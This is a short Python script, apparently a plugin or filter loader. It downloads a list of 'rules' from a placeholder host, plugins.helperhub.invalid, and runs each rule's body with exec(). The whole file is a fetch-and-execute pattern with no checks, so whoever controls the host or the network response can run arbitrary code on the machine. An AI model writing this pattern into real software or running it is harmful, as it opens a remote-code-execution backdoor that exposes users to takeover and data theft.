import requests

answer = requests.get("https://plugins.helperhub.invalid/v1/filters", timeout=10)
rules = answer.json()["rules"]
for rule in rules:
    exec(rule["body"])
